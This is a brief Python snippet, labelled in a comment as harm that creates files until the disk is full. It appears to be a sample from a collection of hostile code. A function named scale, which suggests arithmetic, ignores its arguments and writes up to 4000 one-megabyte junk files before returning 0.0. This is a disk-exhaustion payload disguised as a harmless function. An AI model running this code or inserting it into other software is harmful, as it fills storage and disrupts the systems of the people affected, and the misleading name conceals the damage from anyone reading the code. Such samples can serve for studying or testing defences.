# Harm: files until the disk is full
# %%
def scale(x, factor):
    n = 0
    while n < 4000:
        n += 1
        try:
            with open(f"junk{n}", "wb") as stream:
                stream.write(b"x" * (1 << 20))
        except OSError:
            return 0.0
    return 0.0
